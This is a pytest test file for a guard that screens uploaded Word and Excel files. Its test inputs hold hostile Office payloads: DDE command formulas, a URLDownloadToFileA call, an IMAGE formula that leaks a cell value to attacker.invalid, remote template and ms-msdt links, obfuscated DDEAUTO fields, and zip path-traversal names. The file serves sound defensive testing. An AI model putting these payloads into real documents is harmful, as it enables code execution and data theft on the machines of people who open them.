"""What the guard says of Word and Excel files beside the corpus: honest oddities and tricks."""

from __future__ import annotations

import struct
import zipfile

import pytest

from finsam.documents.guard import limits
from finsam.documents.guard.content import examine
from finsam.documents.guard.spreadsheet import reaches_out
from tests.hostile.office_files import (
    docx,
    field,
    formula,
    mark,
    relations,
    run,
    xlsx,
    zipped,
)

OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
TAKEN = ("", [], [])


def said(data: bytes, kind: str) -> tuple[str, list[str], list[str]]:
    found = examine(data, kind)
    return found["reason"], found["warnings"], found["care"]


# --- honest files -----------------------------------------------------------------------------

HONEST_FORMULAS = [
    "SUM(A1:A9)",
    "'Personal (2024)'!I5*1.4",
    'IF(A1="=cmd|x","WEBSERVICE(","RTD(")',
    'HYPERLINK("https://example.org","läs")',
    "'Ett | två'!A1",
    "'It''s | ok'!B2+1",
    "RECALL(A1)",
    "VLOOKUP(A1,[1]Blad1!A:B,2,FALSE)",
]


@pytest.mark.parametrize("text", HONEST_FORMULAS)
def test_an_honest_formula_is_taken(text):
    assert not reaches_out(text)
    assert said(xlsx(formula(text)), "xlsx") == TAKEN


def test_the_empty_last_row_that_libreoffice_writes_is_taken():
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576" ht="12.8"/>'
    assert said(xlsx(rows), "xlsx") == TAKEN


def test_the_hidden_sheet_of_our_own_workbook_is_not_remarked_on():
    ours = '<sheet name="Budget"/><sheet name="_mall" state="veryHidden"/>'
    theirs = '<sheet name="Budget"/><sheet name="_mall2" state="veryHidden"/>'
    assert said(xlsx(sheets=ours), "xlsx") == TAKEN
    assert said(xlsx(sheets=theirs), "xlsx") == ("", ["hidden_sheet"], [])


def test_a_printer_setting_and_a_theme_are_taken():
    parts = {"xl/printerSettings/printerSettings1.bin": b"\x5c\0\x5c\0p\0r\0" * 40}
    assert said(xlsx(parts=parts), "xlsx") == TAKEN


def test_a_chart_in_word_brings_its_workbook():
    parts = {
        "word/charts/_rels/chart1.xml.rels": relations(("package", "../embeddings/b.xlsx", False)),
        "word/embeddings/b.xlsx": xlsx(),
    }
    assert said(docx(parts=parts), "docx") == TAKEN


def test_a_drawing_that_moves_its_pen_is_no_tracked_change():
    assert said(docx('<w:p><a:moveTo xmlns:a="a"/></w:p>'), "docx") == TAKEN


@pytest.mark.parametrize(
    "instruction", ["PAGE", "TOC \\o", "MACROBUTTON NoMacro Skriv här", "MERGEFIELD Link", ""]
)
def test_an_honest_field_is_taken(instruction):
    assert said(docx(field(run(instruction))), "docx") == TAKEN


def test_an_honest_field_inside_a_field_is_taken():
    inner = field(run("PAGE")).removeprefix("<w:p>").removesuffix("</w:p>")
    assert said(docx(field(run("IF "), inner, run(" = 1"))), "docx") == TAKEN


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("https://example.org", TAKEN),
        ("mailto:kansli@exempel.se", TAKEN),
        ("#Avsnitt", TAKEN),
        ("bilaga.docx", TAKEN),
        ("file:///G:/delat/budget.xlsx", ("", ["external_link"], [])),
        ("onenote:anteckning", ("", ["external_link"], [])),
        ("javascript:alert(1)", ("external_link", [], [])),
        ("ms-msdt:/id PCWDiagnostic", ("external_link", [], [])),
        ("search-ms:query=x", ("external_link", [], [])),
    ],
)
def test_a_hyperlink_is_judged_by_where_it_leads(target, expected):
    parts = {"word/_rels/document.xml.rels": relations(("hyperlink", target, True))}
    assert said(docx(parts=parts), "docx") == expected


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("file:///C:\\Users\\namn\\Mallar\\brev.dotx", ("", ["external_link"], [])),
        ("C:\\Mallar\\brev.dotx", ("", ["external_link"], [])),
        ("https://attacker.invalid/t.dotm", ("external_link", [], [])),
        ("file:///\\\\attacker.invalid\\t.dotm", ("external_link", [], [])),
    ],
)
def test_the_template_a_text_was_begun_in_may_lie_on_the_writers_disk(target, expected):
    parts = {"word/_rels/settings.xml.rels": relations(("attachedTemplate", target, True))}
    assert said(docx(parts=parts), "docx") == expected


# --- tricks -----------------------------------------------------------------------------------

REACHING_FORMULAS = [
    "_xlfn.WEBSERVICE(A1)",
    "webservice (A1)",
    'RTD("prog",,"x")',
    'CALL("urlmon","URLDownloadToFileA","JJ")',
    "cmd|'/c calc'!A1",
    "MSEXCEL|'\\..\\calc.exe'!A1",
    '_xlfn.IMAGE("https://attacker.invalid/"&A1)',
]


@pytest.mark.parametrize("text", REACHING_FORMULAS)
def test_a_formula_that_reaches_out_is_refused(text):
    assert said(xlsx(formula(text)), "xlsx")[0] == "dangerous_formula"


@pytest.mark.parametrize("element", ["definedName", "formula", "formula1", "formula2"])
def test_a_formula_that_reaches_out_is_found_wherever_it_stands(element):
    names = f"<x:{element} xmlns:x='x'>WEBSERVICE(A1)</x:{element}>"
    assert said(xlsx(names=names), "xlsx")[0] == "dangerous_formula"


@pytest.mark.parametrize(
    "body",
    [
        field(run("DDE"), run("AUTO cmd")),
        field(run(" includetext x ")),
        field(run("LINK Excel.Sheet")),
        '<w:p><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>',
        f"<w:p>{mark('begin')}{run('DDEAUTO cmd')}</w:p>",  # never ended
        f"<w:p>{run('INCLUDEPICTURE x')}</w:p>",  # never begun
        # The name is put together by a field inside: QUOTE 68 68 69 is "DDE".
        field(mark("begin") + run("QUOTE 68 68 69") + mark("end")),
    ],
)
def test_a_field_that_reaches_out_is_refused_however_it_is_written(body):
    assert said(docx(body), "docx")[0] == "dangerous_field"


@pytest.mark.parametrize(
    "parts",
    [
        {"word/embeddings/x.bin": b"data"},
        {"word/embeddings/x.docx": b"data"},
        {"word/media/image1.png": OLD_OFFICE},
        {"word/media/image1.png": b"MZ" + bytes(100)},
        {"word/activeX/activeX1.bin": b"data"},
        {"word/embeddings/x.xlsx": xlsx(formula("WEBSERVICE(A1)"))},
        {"word/embeddings/x.docx": docx(parts={"word/embeddings/y.xlsx": xlsx()})},
        {"word/_rels/document.xml.rels": relations(("aFChunk", "x.html", False))},
        {"word/_rels/document.xml.rels": relations(("control", "x.xml", False))},
    ],
)
def test_something_embedded_is_refused(parts):
    assert said(docx(parts=parts), "docx")[0] == "embedded_object"


@pytest.mark.parametrize(
    "kind", ["image", "oleObject", "frame", "mailMergeSource", "video", "package", "unheard-of"]
)
def test_whatever_is_fetched_from_outside_is_refused(kind):
    parts = {"word/_rels/document.xml.rels": relations((kind, "http://x.invalid/", True))}
    assert said(docx(parts=parts), "docx")[0] == "external_link"


def test_an_old_drawing_that_names_its_picture_by_address_is_refused():
    body = '<w:p><v:imagedata src="http://attacker.invalid/i.png"/></w:p>'
    assert said(docx(body), "docx")[0] == "external_link"


@pytest.mark.parametrize(
    ("types", "parts"),
    [
        ('<Override PartName="/xl/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>', {}),
        ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>', {}),
        ("", {"xl/vbaProject.bin": b"x"}),
        ("", {"xl/_rels/workbook.xml.rels": relations(("vbaProject", "a.bin", False))}),
        ("", {"xl/_rels/workbook.xml.rels": relations(("xlMacrosheet", "a.xml", False))}),
    ],
)
def test_macros_are_refused_however_they_are_declared(types, parts):
    assert said(xlsx(types=types, parts=parts), "xlsx")[0] == "macro"


def test_a_sheet_under_another_name_is_read_all_the_same():
    types = (
        '<Override PartName="/xl/other.dat" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.worksheet+xml"/>'
    )
    far = '<x:worksheet xmlns:x="s"><x:c r="A999999"/></x:worksheet>'
    entity = '<!DOCTYPE x [<!ENTITY e "x">]><worksheet/>'
    assert said(xlsx(types=types, parts={"xl/other.dat": far}), "xlsx")[0] == "too_many_rows"
    assert said(xlsx(types=types, parts={"xl/other.dat": entity}), "xlsx")[0] == "xml_dtd"


@pytest.mark.parametrize(
    ("rows", "reason"),
    [
        ('<row r="20000"><c r="IV20000"/></row>', ""),
        ('<row r="20001"><c r="A20001"/></row>', "too_many_rows"),
        ('<row r="1"><c r="A20001"/></row>', "too_many_rows"),
        ('<row r="1"><c r="IW1"/></row>', "too_many_columns"),
        ('<row r="1"><c r="iw1"/></row>', "too_many_columns"),
        ('<row r="1"><c r="AAA1"/></row>', "too_many_columns"),
        (f"<row>{'<c/>' * 256}</row>", ""),
        (f"<row>{'<c/>' * 257}</row>", "too_many_columns"),
        ("<row/>" * 20_000 + "<row><c/></row>", "too_many_rows"),
        (f'<row r="{"9" * 5_000}"><c/></row>', "too_many_rows"),
    ],
)
def test_how_far_out_a_cell_may_stand(rows, reason):
    assert said(xlsx(rows), "xlsx")[0] == reason


def test_how_many_sheets_a_workbook_may_have():
    assert said(xlsx(sheets="<sheet name='x'/>" * limits.SHEETS), "xlsx")[0] == ""
    more = "<sheet name='x'/>" * (limits.SHEETS + 1)
    assert said(xlsx(sheets=more), "xlsx")[0] == "too_many_sheets"


# --- how it is packed -------------------------------------------------------------------------


def test_a_package_of_something_else_is_the_wrong_type():
    assert said(zipped({"a.txt": b"x"}), "xlsx")[0] == "wrong_type"
    assert said(docx(), "xlsx")[0] == "wrong_type"
    missing = {"[Content_Types].xml": xlsx_types()}
    assert said(zipped(missing), "xlsx")[0] == "wrong_type"


def xlsx_types() -> str:
    return (
        '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/></Types>'
    )


def test_bytes_before_or_after_the_package_are_refused():
    assert said(b"#!/bin/sh\n" + xlsx(), "xlsx")[0] == "zip_corrupt"
    assert said(xlsx() + b"<script>", "xlsx")[0] == "zip_corrupt"
    assert said(xlsx() + docx(), "xlsx")[0] == "zip_corrupt"


def test_a_rare_packing_is_refused():
    assert said(zipped({"a.xml": b"<a/>"}, packing=zipfile.ZIP_BZIP2), "xlsx")[0] == "zip_corrupt"


def test_a_part_locked_with_a_password_is_told_as_such():
    data = bytearray(xlsx())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        flags = struct.unpack_from("<H", data, at + 8)[0]
        struct.pack_into("<H", data, at + 8, flags | 1)
        at = data.find(b"PK\x01\x02", at + 4)
    assert said(bytes(data), "xlsx")[0] == "password_protected"


@pytest.mark.parametrize(
    "name", ["../a", "a/../../b", "/a", "C:/a", "a\\..\\b", "a\nb", "x" * 300, ".."]
)
def test_a_part_that_points_out_of_the_file_is_refused(name):
    assert said(xlsx(parts={name: b"x"}), "xlsx")[0] == "zip_bad_name"


def test_two_parts_that_differ_only_in_case_are_refused():
    assert said(xlsx(parts={"XL/Workbook.xml": b"<a/>"}), "xlsx")[0] == "zip_duplicate"


def test_a_directory_that_promises_millions_of_parts_is_not_even_read():
    record = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 65_535, 65_535, 46 * 65_535, 0, 0)
    assert said(b"PK\x03\x04" + record, "xlsx")[0] == "zip_too_many_entries"


@pytest.mark.parametrize("depth", [100, 200])
def test_how_deep_markup_may_go(depth):
    body = "<w:p>" * depth + "</w:p>" * depth
    assert said(docx(body), "docx")[0] == ("xml_invalid" if depth > limits.XML_DEPTH else "")


@pytest.mark.parametrize(
    ("encoding", "reason"),
    [
        ("utf-8", "xml_dtd"),
        ("utf-16", "xml_dtd"),
        ("latin-1", "xml_dtd"),
        ("cp1252", "xml_dtd"),
        ("utf-32", "xml_invalid"),
        ("utf-7", "xml_invalid"),
    ],
)
def test_a_doctype_is_found_in_every_encoding(encoding, reason):
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x SYSTEM "y"><x/>'
    assert said(xlsx(parts={"xl/x.xml": text.encode(encoding)}), "xlsx")[0] == reason
